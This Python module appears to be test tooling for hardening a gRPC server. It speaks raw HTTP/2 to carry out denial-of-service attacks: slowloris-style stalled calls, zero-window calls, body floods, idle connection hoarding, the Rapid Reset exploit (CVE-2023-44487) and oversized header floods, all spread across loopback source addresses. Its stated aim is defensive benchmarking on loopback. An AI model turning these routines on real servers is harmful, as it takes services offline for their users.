"""Hostile callers of a gRPC server, spoken as raw HTTP/2 over asyncio (a gRPC client cannot send half a
message): for bench/hostile.py and the hardening tests. Loopback plaintext only.

Each caller opens calls on one connection (at most `per_connection`, more connections as needed) and
holds them for `seconds`, then closes everything:
- "silent": headers, then nothing (the body never comes);
- "slow": headers, then a message announced at 1 MiB whose bytes come one a second;
- "unread": a whole small request, then never reads the socket, with a receive window of 0;
- "flood": a `body_mb` message sent as fast as HTTP/2 flow control lets it go.
`token=None` sends no authorization header; any other string is sent as the bearer token.
`hold_idle` opens connections that start no call at all: half send nothing, half only the HTTP/2 preface.
`rapid_reset` opens calls and resets them at once (CVE-2023-44487), as fast as the server reads them.
`oversized_headers` sends calls whose header block (10,000 small headers) is past gRPC's metadata limit.
These three connect from ATTACKER (127.0.0.2, loopback as well): a host of its own, so that the servers' cap
on connections per host meets the attacker and not the legitimate callers on 127.0.0.1 beside it.
"""

from __future__ import annotations

import asyncio
import struct
import threading
import time
from dataclasses import dataclass

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
FRAME = 16384  # the default SETTINGS_MAX_FRAME_SIZE
ATTACKER = "127.0.0.2"  # every 127.x.y.z is loopback on Linux


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _int(value: int, prefix_bits: int, first: int = 0) -> bytes:
    """HPACK integer (RFC 7541 5.1)."""
    top = (1 << prefix_bits) - 1
    if value < top:
        return bytes([first | value])
    out, value = [first | top], value - top
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def header_block(headers: list[tuple[str, str]]) -> bytes:
    """Literal header fields without indexing, new names, no Huffman: the simplest valid HPACK."""
    out = b""
    for name, value in headers:
        out += b"\x00" + _int(len(name), 7) + name.encode() + _int(len(value), 7) + value.encode()
    return out


@dataclass
class Tally:
    opened: int = 0  # calls whose headers went out
    answered: int = 0  # calls the server ended (trailers or RST_STREAM)
    sent_bytes: int = 0  # body bytes sent
    connections_lost: int = 0


class _Connection:
    def __init__(self, host: str, port: int, mode: str, tally: Tally):
        self.host, self.port, self.mode, self.tally = host, port, mode, tally
        self.window = 65535  # the connection's send window
        self.stream_windows: dict[int, int] = {}
        self.ended: set[int] = set()
        self.more = asyncio.Event()  # a window grew or a stream ended

    async def open(self) -> None:
        self.reader, self.writer = await asyncio.open_connection(self.host, self.port)
        settings = struct.pack(">HI", 0x4, 0) if self.mode == "unread" else b""  # INITIAL_WINDOW_SIZE 0
        self.writer.write(PREFACE + frame(SETTINGS, 0, 0, settings))
        await self.writer.drain()
        self.reading = asyncio.ensure_future(self._read()) if self.mode != "unread" else None

    async def _read(self) -> None:
        try:
            while True:
                head = await self.reader.readexactly(9)
                length, kind, flags, stream = (
                    int.from_bytes(head[:3], "big"),
                    head[3],
                    head[4],
                    int.from_bytes(head[5:], "big") & 0x7FFFFFFF,
                )
                payload = await self.reader.readexactly(length)
                if kind == SETTINGS and not flags & ACK:
                    self.writer.write(frame(SETTINGS, ACK, 0))
                elif kind == PING and not flags & ACK:
                    self.writer.write(frame(PING, ACK, 0, payload))
                elif kind == WINDOW_UPDATE:
                    grow = int.from_bytes(payload, "big") & 0x7FFFFFFF
                    if stream == 0:
                        self.window += grow
                    else:
                        self.stream_windows[stream] = self.stream_windows.get(stream, 65535) + grow
                elif (kind == HEADERS and flags & END_STREAM) or kind == RST_STREAM:
                    if stream not in self.ended:
                        self.ended.add(stream)
                        self.tally.answered += 1
                elif kind == GOAWAY:
                    break
                self.more.set()
        except (asyncio.IncompleteReadError, ConnectionError):
            pass
        self.tally.connections_lost += 1
        self.more.set()

    async def call(self, stream: int, path: str, token: str | None, body: bytes, body_mb: float) -> None:
        headers = [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", f"{self.host}:{self.port}"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
        if token is not None:
            headers.append(("authorization", f"Bearer {token}"))
        complete = self.mode == "unread"
        self.writer.write(frame(HEADERS, END_HEADERS, stream, header_block(headers)))
        self.tally.opened += 1
        if complete:  # a whole request, then nothing is ever read
            self.writer.write(frame(DATA, END_STREAM, stream, b"\x00" + struct.pack(">I", len(body)) + body))
        elif self.mode == "slow":
            self.writer.write(frame(DATA, 0, stream, b"\x00" + struct.pack(">I", 2**20)))
        await self.writer.drain()
        if self.mode == "slow":
            while stream not in self.ended:
                await asyncio.sleep(1.0)
                self.writer.write(frame(DATA, 0, stream, b"x"))
                self.tally.sent_bytes += 1
                await self.writer.drain()
        elif self.mode == "flood":
            await self._flood(stream, int(body_mb * 2**20))

    async def _flood(self, stream: int, size: int) -> None:
        left = memoryview(b"\x00" + struct.pack(">I", size) + bytes(min(size, FRAME)))
        todo = size + 5
        self.stream_windows.setdefault(stream, 65535)
        while todo > 0 and stream not in self.ended:
            n = min(todo, FRAME, self.window, self.stream_windows[stream])
            if n <= 0:
                self.more.clear()
                await self.more.wait()
                continue
            self.writer.write(frame(DATA, END_STREAM if n == todo else 0, stream, bytes(left[:n])))
            self.window -= n
            self.stream_windows[stream] -= n
            todo -= n
            self.tally.sent_bytes += n
            await self.writer.drain()

    def close(self) -> None:
        if self.reading:
            self.reading.cancel()
        self.writer.close()


async def hold_calls(
    address: str,
    path: str,
    n: int,
    mode: str,
    seconds: float,
    token: str | None = None,
    per_connection: int = 100,
    body: bytes = b"",
    body_mb: float = 60.0,
    stop: threading.Event | None = None,
    tally: Tally | None = None,
) -> Tally:
    """Open `n` hostile calls to `path` at `address` and keep them going for `seconds` (or until the
    server ends them all, or `stop` is set); then close every connection. Returns what happened."""
    host, port = address.rsplit(":", 1)
    tally = tally or Tally()
    connections, tasks = [], []
    try:
        for first in range(0, n, per_connection):
            connection = _Connection(host, int(port), mode, tally)
            await connection.open()
            connections.append(connection)
            for i in range(min(per_connection, n - first)):
                tasks.append(asyncio.ensure_future(connection.call(1 + 2 * i, path, token, body, body_mb)))
        end = asyncio.get_running_loop().time() + seconds
        while (
            (left := end - asyncio.get_running_loop().time()) > 0
            and tally.answered < n
            and not (stop and stop.is_set())
        ):
            await asyncio.sleep(min(0.1, left))  # the calls are held open meanwhile
    finally:
        for task in tasks:
            task.cancel()
        for connection in connections:
            connection.close()
        await asyncio.gather(*tasks, return_exceptions=True)
    return tally


@dataclass
class IdleTally:
    opened: int = 0  # connections that were accepted
    refused: int = 0  # connections that could not be opened
    closed_by_server: int = 0  # connections the server closed while they were held
    last_closed_after: float = 0.0  # seconds from the start to the last of those


def attacking_hosts(n: int) -> list[str]:
    """`n` loopback addresses for attackers: ATTACKER, then 127.0.0.3, ... (never 127.0.0.1)."""
    return [f"127.0.{i // 250}.{2 + i % 250}" for i in range(n)]


async def _idle_connection(host: str, port: int, source: str, preface: bool, tally: IdleTally, start: float) -> None:
    try:
        reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
    except OSError:
        tally.refused += 1
        return
    tally.opened += 1
    try:
        if preface:
            writer.write(PREFACE + frame(SETTINGS, 0, 0))
            await writer.drain()
        while await reader.read(65536):  # settings and pings from the server, never answered; then EOF
            pass
        tally.closed_by_server += 1
        tally.last_closed_after = time.monotonic() - start
    except (ConnectionError, OSError):
        tally.closed_by_server += 1
        tally.last_closed_after = time.monotonic() - start
    finally:
        writer.close()


async def hold_idle(address: str, n: int, seconds: float, tally: IdleTally | None = None, hosts: int = 1) -> IdleTally:
    """Open `n` connections that start no call (every other one sends the HTTP/2 preface and SETTINGS,
    the rest nothing) and hold them for `seconds`, or until the server has closed them all. With `hosts`
    > 1 they come from that many loopback hosts (127.0.0.2, 127.0.0.3, ...), round robin."""
    host, port = address.rsplit(":", 1)
    tally, start = tally or IdleTally(), time.monotonic()
    sources = attacking_hosts(hosts)
    tasks = [
        asyncio.ensure_future(_idle_connection(host, int(port), sources[i % hosts], i % 2 == 1, tally, start))
        for i in range(n)
    ]
    _, pending = await asyncio.wait(tasks, timeout=seconds)
    for task in pending:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    return tally


async def rapid_reset(
    address: str, path: str, connections: int, seconds: float, batch: int = 50, hosts: int = 1
) -> int:
    """On each of `connections` connections from each of `hosts` loopback hosts (127.0.0.2, 127.0.0.3,
    ...), HEADERS then RST_STREAM(CANCEL) on stream after stream, in batches of `batch`, for `seconds`;
    returns how many calls were opened and reset."""
    block = header_block(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", address),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
    )

    def burst(stream: int) -> tuple[bytes, int]:
        out = bytearray()
        for s in range(stream, stream + 2 * batch, 2):
            out += frame(HEADERS, END_HEADERS, s, block) + frame(RST_STREAM, 0, s, struct.pack(">I", 8))  # CANCEL
        return bytes(out), batch

    return await _send_calls(address, connections, seconds, burst, hosts)


async def oversized_headers(address: str, path: str, connections: int, seconds: float, headers: int = 10_000) -> int:
    """On each of `connections` connections, call after call whose header block holds `headers` small
    headers (HEADERS and CONTINUATION frames of 16 KiB), back to back for `seconds`; returns the calls sent."""
    block = header_block(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", address),
            ("content-type", "application/grpc"),
        ]
        + [(f"x-h{i}", "v") for i in range(headers)]
    )
    pieces = [block[i : i + FRAME] for i in range(0, len(block), FRAME)]

    def call(stream: int) -> tuple[bytes, int]:
        out = bytearray(frame(HEADERS, END_HEADERS if len(pieces) == 1 else 0, stream, pieces[0]))
        for i, piece in enumerate(pieces[1:], 2):
            out += frame(CONTINUATION, END_HEADERS if i == len(pieces) else 0, stream, piece)
        return bytes(out), 1

    return await _send_calls(address, connections, seconds, call)


async def _send_calls(address: str, connections: int, seconds: float, calls, hosts: int = 1) -> int:
    """On each of `connections` connections from each of `hosts` hosts (its replies read and dropped),
    `calls(first_stream)` -> (bytes, n calls) written back to back for `seconds`, a connection the server
    refuses or closes opened again at once (as a flood would); returns the calls sent over all connections."""
    host, port = address.rsplit(":", 1)
    end = asyncio.get_running_loop().time() + seconds
    sent = 0

    async def one(source: str) -> None:
        nonlocal sent
        while asyncio.get_running_loop().time() < end:  # a connection refused or closed is opened again
            try:
                reader, writer = await asyncio.open_connection(host, int(port), local_addr=(source, 0))
            except OSError:
                await asyncio.sleep(0.01)
                continue
            replies = asyncio.ensure_future(_drain(reader))
            writer.write(PREFACE + frame(SETTINGS, 0, 0))
            stream = 1
            try:
                while asyncio.get_running_loop().time() < end and stream < 2**30:
                    data, n = calls(stream)
                    writer.write(data)
                    await writer.drain()
                    sent, stream = sent + n, stream + 2 * n
            except (ConnectionError, OSError):
                pass
            finally:
                replies.cancel()
                writer.close()

    sources = attacking_hosts(hosts)
    await asyncio.gather(*(one(s) for s in sources for _ in range(connections)), return_exceptions=True)
    return sent


async def _drain(reader: asyncio.StreamReader) -> None:
    while await reader.read(65536):
        pass


class Attack:
    """`hold_calls` on a thread of its own, for as long as the `with` block runs (at most `seconds`)."""

    def __init__(self, *args, seconds: float = 120.0, **kwargs):
        self.stop, self.tally, self.n = threading.Event(), Tally(), args[2]

        def run() -> None:
            kwargs.update(seconds=seconds, stop=self.stop, tally=self.tally)
            asyncio.run(hold_calls(*args, **kwargs))

        self._thread = threading.Thread(target=run, daemon=True)

    def __enter__(self) -> Attack:
        """Returns once every hostile call is open (or after 10 s)."""
        self._thread.start()
        deadline = time.monotonic() + 10
        while self.tally.opened < self.n and time.monotonic() < deadline and self._thread.is_alive():
            time.sleep(0.02)
        time.sleep(0.2)  # their headers reach the server
        return self

    def running(self) -> bool:
        return self._thread.is_alive()

    def wait_answered(self, timeout: float = 10.0) -> int:
        """Until the server has answered every hostile call (or `timeout`); returns how many it answered.
        Refusals are counted as they arrive: a loaded machine may still be sending them after the
        legitimate calls are done."""
        deadline = time.monotonic() + timeout
        while self.tally.answered < self.n and time.monotonic() < deadline and self._thread.is_alive():
            time.sleep(0.02)
        return self.tally.answered

    def __exit__(self, *exc) -> None:
        self.stop.set()
        self._thread.join(timeout=60)
